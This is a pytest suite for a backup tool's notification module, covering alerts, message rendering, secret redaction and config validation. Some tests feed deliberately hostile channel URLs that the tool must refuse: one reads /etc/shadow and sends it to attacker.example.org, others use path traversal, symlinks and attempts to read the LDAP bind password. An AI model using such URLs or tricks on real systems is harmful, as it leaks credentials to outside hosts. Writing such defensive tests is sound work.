"""`hive notify`'s pure layer as tables: which alerts hold, what is sent when, how it reads,
and what the file's validation refuses (as FILE:LINE:COL)."""

from __future__ import annotations

import os
import re
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from conftest import hive, write_config

import schemas
from notifications import alerts, render
from notifications.alerts import Delivery, Sent
from notifications.secrets import SecretError, redact, resolve
from schemas.placeholders import SecretPolicy
from watcher.events import BORG1, RepoState
from watcher.status import Disk, Recorded, evaluate

NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
DAY = 86400.0

KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBzpUoNWXHmGx2ZyvUl7ihkSD4m3ueo3zAbQ1jjDwV9C a"
KEY_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF8Y9XTx5B9Zk0jTyA+c2r9ykHc7YcCJQnwqvv1IfDjE b"
CONFIG = schemas.load_text(textwrap.dedent("""\
    version: 1
    server: {name: backup1, ssh_host: h, repos_root: /srv/repos, state_dir: /var/lib/hive,
             quota_warn: 90}
    owners:
      alice: {notify: [alice-hook]}
      bob: {}
    groups: {family: {members: [bob]}}
    keys:
      soon: {owner: alice, expires: 2026-12-03,
             public_key: "KEY_A"}
      later: {owner: alice, expires: 2027-01-30,
              public_key: "KEY_B"}
    repositories:
      laptop: {owner: alice, keys: [soon]}
      pc: {owner: bob}
      nas: {owner: bob, quota: 100G, quota_warn: 50, stale_after: 2d}
      moving: {owner: bob, mode: import}
      paused: {owner: bob, mode: disabled}
      desk: {owner: alice, append_only_keys: [later]}
    notifications:
      channels:
        ops: {url: "json://127.0.0.1:1/ops"}
        alice-hook: {url: "json://127.0.0.1:1/alice", owner: alice}
        family: {url: "json://127.0.0.1:1/family", groups: [family]}
      rules:
        - {name: all, channels: [ops], repeat_every: 24h, stop_after: 3d}
        - {name: own, notify_owner: true, alerts: [stale, never_backed_up], recovery: false}
        - {name: fam, match: {group: family}, channels: [family]}
    """).replace("KEY_A", KEY_A).replace("KEY_B", KEY_B), "hive.yaml", Path("/"))


def backed_up(days_ago: float) -> RepoState:
    return RepoState(layout=BORG1, transaction=9, commit_time=NOW.timestamp() - days_ago * DAY)


def status(repo: str, disk: Disk, recorded: Recorded | None = None):  # type: ignore[no-untyped-def]
    return evaluate(CONFIG, repo, disk, recorded or Recorded(), NOW, DAY)


FINE = {"laptop": Disk(backed_up(0.1)), "pc": Disk(backed_up(0.1)),
        "nas": Disk(backed_up(0.1)), "moving": Disk(RepoState()),
        "paused": Disk(None, readable=False), "desk": Disk(backed_up(0.1))}


@pytest.mark.parametrize(("changed", "created", "expected"), [
    ({}, {}, {}),
    ({"pc": Disk(backed_up(2))}, {}, {("pc", "stale"): "2 d"}),
    ({"nas": Disk(backed_up(1.5))}, {}, {}),                          # its own 2d
    ({"nas": Disk(backed_up(3))}, {}, {("nas", "stale"): "3 d"}),
    ({"pc": Disk(RepoState())}, {}, {("pc", "never_backed_up"): "never"}),  # created: unknown
    ({"pc": Disk(RepoState())}, {"pc": NOW - timedelta(hours=2)}, {}),  # younger than 26h
    ({"pc": Disk(RepoState())}, {"pc": NOW - timedelta(hours=27)},
     {("pc", "never_backed_up"): "never"}),
    ({"moving": Disk(backed_up(30))}, {}, {}),                        # import: no backups
    ({"moving": Disk(None)}, {}, {("moving", "missing"): "missing"}),  # but it must exist
    ({"pc": Disk(None)}, {}, {("pc", "missing"): "missing"}),
    ({"pc": Disk(RepoState(layout=BORG1, transaction=9, commit_time=NOW.timestamp() - 60,
                           locks=frozenset({"lock.exclusive"}),
                           lock_since=NOW.timestamp() - 7200), holders_alive=False)},
     {}, {("pc", "locked"): "locked 2 h"}),
])
def test_conditions(changed: dict[str, Disk], created: dict[str, datetime],
                    expected: dict[tuple[str, str], str]) -> None:
    statuses = [status(r, changed.get(r, d)) for r, d in FINE.items()]
    found = alerts.conditions(CONFIG, statuses, created, NOW)
    # laptop's key 'soon' expires within 14 days in every row; desk's 'later' does not
    assert {k: c.detail for k, c in found.items()} == {
        ("laptop", "key_expiring"): "key soon expires in 6 d", **expected}


@pytest.mark.parametrize(("size", "alert"), [(49e9, False), (50e9, True), (99e9, True)])
def test_quota_uses_the_repository_override(size: float, alert: bool) -> None:
    s = status("nas", FINE["nas"], Recorded(size_bytes=int(size)))
    assert (("nas", "quota") in alerts.conditions(CONFIG, [s], {}, NOW)) is alert


H = timedelta(hours=1)


@pytest.mark.parametrize(("active", "before", "kind"), [
    (True, None, "new"),
    (True, Sent(NOW - 2 * H, NOW - 2 * H), None),           # inside repeat_every (24h)
    (True, Sent(NOW - 25 * H, NOW - 25 * H), "repeat"),
    (True, Sent(NOW - 73 * H, NOW - 25 * H), None),          # stop_after 3d since the first
    (False, Sent(NOW - 25 * H, NOW - H), "recovery"),
    (False, None, None),                                     # never sent: nothing to recover
])
def test_decide_repeat_stop_recovery(active: bool, before: Sent | None,
                                     kind: str | None) -> None:
    s = status("pc", Disk(backed_up(2)))
    cond = alerts.conditions(CONFIG, [s], {}, NOW) if active else {}
    sent = {("all", "ops", "pc", "stale"): before} if before else {}
    got = [d.kind for d in alerts.decide(CONFIG, cond, sent, NOW)
           if (d.rule, d.channel, d.repository) == ("all", "ops", "pc")]
    assert got == ([kind] if kind else [])


def test_recovery_false_forgets_silently() -> None:
    sent = {("own", "alice-hook", "laptop", "stale"): Sent(NOW - H, NOW - H)}
    got = alerts.decide(CONFIG, {}, sent, NOW)
    assert [(d.rule, d.kind) for d in got] == [("own", "clear")]
    assert render.messages(CONFIG, got, {}, NOW) == []


def test_owner_and_group_channels_carry_only_theirs() -> None:
    statuses = [status(r, Disk(backed_up(5))) for r in ("laptop", "pc", "nas", "desk")]
    got = alerts.decide(CONFIG, alerts.conditions(CONFIG, statuses, {}, NOW), {}, NOW)
    by_channel: dict[str, set[str]] = {}
    for d in got:
        by_channel.setdefault(d.channel, set()).add(d.repository)
    assert by_channel == {"ops": {"laptop", "pc", "nas", "desk"},
                          "alice-hook": {"laptop", "desk"}, "family": {"pc", "nas"}}


def test_title_reads_on_a_lock_screen() -> None:
    statuses = {r: status(r, d) for r, d in (("laptop", Disk(backed_up(2.2))),
                                              ("pc", Disk(RepoState())),
                                              ("nas", Disk(backed_up(5))))}
    found = alerts.conditions(CONFIG, statuses.values(), {}, NOW)
    found.pop(("laptop", "key_expiring"))
    got = [d for d in alerts.decide(CONFIG, found, {}, NOW) if d.channel == "ops"]
    (message,) = render.messages(CONFIG, got, statuses, NOW)
    assert message.title == "backup1: 3 backups late: laptop 2 d, nas 5 d, pc never"
    assert message.notify_type == "failure"
    assert "laptop (owner alice): stale" in message.body
    assert "last backup: 2026-11-24 07:12 UTC (2 d ago)" in message.body
    assert "hive status pc" in message.body and "host: backup1" in message.body
    recovered = [Delivery("all", "ops", "nas", "stale", "recovery", None)]
    (back,) = render.messages(CONFIG, recovered, statuses, NOW)
    assert (back.title, back.notify_type) == ("backup1: 1 recovered: nas", "success")
    assert "laptop" not in back.body


def test_secrets_resolve_quoted_and_redact(tmp_path: Path) -> None:
    (tmp_path / "user").write_text("u s/er\n")
    got = resolve("pover://{file:" + str(tmp_path / "user") + "}@{env:TOKEN}",
                  {"TOKEN": "t@ken"}, SecretPolicy(str(tmp_path)))
    assert got.url == "pover://u%20s%2Fer@t%40ken"
    assert got.redact(f"failed {got.url} t@ken") == "failed pover://***@*** ***"
    with pytest.raises(SecretError, match=r"environment variable NOPE .* is not set"):
        resolve("json://{env:NOPE}@h", {})
    assert redact("abc", []) == "abc"


def test_apprise_warnings_show_not_even_part_of_a_secret(monkeypatch: pytest.MonkeyPatch,
                                                          tmp_path: Path) -> None:
    """apprise quotes a URL it cannot load with each secret as its first and last
    character ("S...n"): that is two characters of the password, in stdout, --output json
    and the event database."""
    from notifications.send import deliver

    monkeypatch.setenv("HIVE_TEST_SMTP_PW", "S3cr3tT0ken")
    said = deliver("mailtos://u:{env:HIVE_TEST_SMTP_PW}@127.0.0.1:1?to=a@b.c", "t", "b",
                   "info", SecretPolicy(str(tmp_path)))
    assert said is not None and "Could not load E-Mail URL" in said  # the warning is kept
    assert "u:***@" in said and "S...n" not in said and "0ken" not in said
    assert redact("tail ...0ken, outer S...n", ["S3cr3tT0ken"]) == "tail ***, outer ***"


BODY = """\
owners:
  alice: {notify: [alice-hook, nowhere]}
  bob: {}
groups: {family: {members: [bob]}}
repositories:
  r1: {owner: alice}
  r2: {owner: bob}
notifications:
  channels:
    alice-hook: {url: "json://127.0.0.1:1/a", owner: alice}
    fam: {url: "json://127.0.0.1:1/f", groups: [family], owner: carol}
    literal: {url: "mailtos://me:hunter2@smtp.example.org?to=a@example.org"}
    token: {url: "pover://{env:USER_KEY}@azGDORePK8gMaC0QOYAMyEEuzJnyUi"}
    nonsense: {url: "nosuchservice://x"}
  rules:
    - {name: r, match: {owner: bob}, channels: [alice-hook, ghost]}
    - {name: r, match: {group: nogroup}, channels: [fam]}
"""


def test_validate_refuses_with_file_line_col(tmp_path: Path) -> None:
    path = write_config(tmp_path, BODY)
    result = hive("validate", "-f", str(path))
    assert result.returncode == 1
    got = [line.split(": ", 1)[0].removeprefix(f"{path}:") + ": " + line.split(": ", 2)[1]
           for line in result.stderr.splitlines() if line.startswith(str(path) + ":")
           and "problem" not in line.split(": ", 1)[1][:12]]
    expected = {
        "10:32: owners.alice.notify[1]",                # unknown channel
        "19:65: notifications.channels.fam.owner",       # unknown owner
        "20:20: notifications.channels.literal.url",     # a literal password
        "21:18: notifications.channels.token.url",       # a literal token (apprise says)
        "22:21: notifications.channels.nonsense.url",    # apprise knows no such service
        "24:49: notifications.rules[0].channels[0]",     # alice's channel, bob's repositories
        "24:61: notifications.rules[0].channels[1]",     # unknown channel
        "25:14: notifications.rules[1].name",            # twice
        "25:32: notifications.rules[1].match.group",
    }
    assert set(got) == expected, result.stderr
    assert "hunter2" not in result.stderr and "azGDORePK8" not in result.stderr
    assert "literal password" in result.stderr and "'token' part holds a literal secret" \
        in result.stderr


@pytest.mark.parametrize(("entry", "message"), [
    ('channels: {c: {url: "json://{env:1BAD}@h/x"}}', "'1BAD' is not an environment variable"),
    ('channels: {c: {url: "json://{file:relative}@h/x"}}', "give an absolute path"),
    ('channels: {c: {url: "json://{env:X@h/x"}}', "placeholder is malformed"),
    ('channels: {c: {url: "just-text"}}', "is not an apprise URL"),
    ("rules: [{name: nobody}]", "it would tell nobody"),
    ("rules: [{name: x, channels: [c], alerts: [late]}]", "Input should be 'stale'"),
    ("rules: [{name: x, channels: [c], repeat_every: 1 day}]", "use a whole number and a unit"),
])
def test_the_models_refuse(tmp_path: Path, entry: str, message: str) -> None:
    path = write_config(tmp_path, f"owners: {{a: {{}}}}\nnotifications:\n  {entry}\n")
    with pytest.raises(schemas.ConfigError) as caught:
        schemas.load(path)
    assert message in str(caught.value)
    assert str(caught.value).startswith(f"{path}:11:")


def test_the_readme_example_validates(tmp_path: Path) -> None:
    """README's Notifications example (e-mail, ntfy, Pushover, a webhook) is a valid file,
    apprise's parsing of each URL included."""
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    section = readme.split("## Notifications", 1)[1]
    block = section.split("```yaml\n", 1)[1].split("```", 1)[0]
    path = write_config(tmp_path, block + "groups: {family: {members: [alice]}}\n"
                                          "repositories:\n  laptop: {owner: alice}\n")
    result = hive("validate", "-f", str(path))
    assert result.returncode == 0, result.stderr
    assert set(schemas.load(path).notifications.channels) == {
        "ops-mail", "ops-ntfy", "alice-pushover", "monitoring"}


def test_a_long_message_names_everyone_but_details_the_first_fifty() -> None:
    statuses = {r: status(r, Disk(backed_up(3))) for r in ("laptop", "pc", "nas", "desk")}
    found = alerts.conditions(CONFIG, statuses.values(), {}, NOW)
    many = [Delivery("all", "ops", f"r{i:03}", "stale", "new", found[("pc", "stale")])
            for i in range(120)]
    (message,) = render.messages(CONFIG, many, statuses, NOW)
    assert message.title.startswith("backup1: 120 backups late: r000 3 d, r001 3 d")
    assert message.title.endswith(" more") and len(message.title) <= render.TITLE_LIMIT
    assert message.body.count("last backup:") == render.BODY_ITEMS
    assert "... and 70 more: r050 (stale), r051 (stale)" in message.body
    assert "r119 (stale)" in message.body


def test_secrets_come_only_from_the_secrets_folder(tmp_path: Path) -> None:
    """hive notify runs as root: a channel must not read (and send) any file it names."""
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (tmp_path / "shadow").write_text("root:$6$hash\n")
    (secrets / "ok").write_text("token\n")
    (secrets / "escape").symlink_to(tmp_path / "shadow")
    os.mkfifo(secrets / "fifo")
    policy = SecretPolicy(str(secrets), frozenset({"LDAP_PW"}))
    assert resolve("json://{file:" + str(secrets / "ok") + "}@h", {}, policy).url \
        == "json://token@h"
    for url, why in [
        ("json://{file:" + str(tmp_path / "shadow") + "}@h", "outside server.secrets_dir"),
        ("json://{file:" + str(secrets) + "/../shadow}@h", "outside server.secrets_dir"),
        ("json://{file:" + str(secrets / "escape") + "}@h", "through a symlink"),
        ("json://{file:" + str(secrets / "fifo") + "}@h", "not a regular file"),
        ("json://{env:LDAP_PW}@h", "LDAP bind password"),
    ]:
        with pytest.raises(SecretError, match=re.escape(why)):
            resolve(url, {"LDAP_PW": "secret"}, policy)
    with pytest.raises(SecretError, match=r"outside server\.secrets_dir"):
        resolve("json://{file:/etc/shadow}@h", {})  # no policy given: the default folder


def test_the_ldap_bind_password_file_is_never_a_channels_secret(tmp_path: Path) -> None:
    """The bind password's file may well sit in secrets_dir: neither its name, nor a link
    or symlink to it, lets a channel read it; validation says so with its position."""
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    password = secrets / "ldap-password"
    password.write_text("TopSecretBindPw\n")
    os.link(password, secrets / "hard")
    (secrets / "soft").symlink_to(password)
    policy = SecretPolicy(str(secrets), frozenset(), frozenset({str(password)}))
    for name in ("ldap-password", "hard", "soft", "./ldap-password"):
        with pytest.raises(SecretError, match="is the LDAP bind password's file"):
            resolve("json://h/x/{file:" + f"{secrets}/{name}" + "}", {}, policy)
    path = write_config(tmp_path, f"""\
        notifications:
          channels:
            leak: {{url: "json://h.example.org/x/{{file:{password}}}"}}
        """, identity="{backend: ldap, ldap: {url: 'ldap://127.0.0.1:1/', base_dn: 'dc=x', "
                      f"bind_dn: 'cn=h,dc=x', bind_password_file: '{password}'}}}}")
    path.write_text(path.read_text().replace("  identity:", f"  secrets_dir: {secrets}\n"
                                                             "  identity:"))
    with pytest.raises(schemas.ConfigError) as caught:
        schemas.load(path)
    assert [p.path for p in caught.value.problems] == ["notifications.channels.leak.url"]
    assert "is the LDAP bind password's file" in caught.value.problems[0].message


def test_validation_refuses_secrets_from_elsewhere(tmp_path: Path) -> None:
    pw = tmp_path / "pw"
    pw.write_text("x\n")
    path = write_config(tmp_path, """\
        notifications:
          channels:
            leak: {url: "json://{file:/etc/shadow}@attacker.example.org/x"}
            fine: {url: "json://{file:/etc/hive/secrets/hook}@hooks.example.org/x"}
        """, identity="{backend: ldap, ldap: {url: 'ldap://127.0.0.1:1/', "
                      "base_dn: 'dc=x', bind_dn: 'cn=h,dc=x', bind_password_env: LDAP_PW}}")
    env = '    env: {url: "json://{env:LDAP_PW}@a.example.org/x"}\n'
    path.write_text(path.read_text().replace("    fine:", env + "    fine:"))
    with pytest.raises(schemas.ConfigError) as caught:
        schemas.load(path)
    problems = [str(p) for p in caught.value.problems]
    assert any("notifications.channels.leak.url" in p and "outside server.secrets_dir" in p
               for p in problems), problems
    assert any("notifications.channels.env.url" in p and "LDAP bind password" in p
               for p in problems), problems
    assert not any("channels.fine" in p for p in problems), problems


@pytest.mark.parametrize(("days_ago", "alert"), [(None, False), (0.5, True), (6.9, True),
                                                 (7.5, False)])
def test_a_replaced_borg_key_alerts_for_a_week(days_ago: float | None, alert: bool) -> None:
    """`hive stats` records a repokey_changed event; notify alerts on it for 7 days (the
    copies of the keys are kept for good)."""
    when = None if days_ago is None else NOW - timedelta(days=days_ago)
    statuses = [status(r, d, Recorded(repokey_changed=when) if r == "desk" else None)
                for r, d in FINE.items()]
    found = alerts.conditions(CONFIG, statuses, {}, NOW)
    condition = found.get(("desk", "repokey_changed"))
    assert (condition is not None) == alert
    if condition is not None:
        assert condition.detail.startswith(f"its borg key was replaced {int(days_ago)} d ago"
                                           if days_ago >= 1 else "its borg key was replaced")
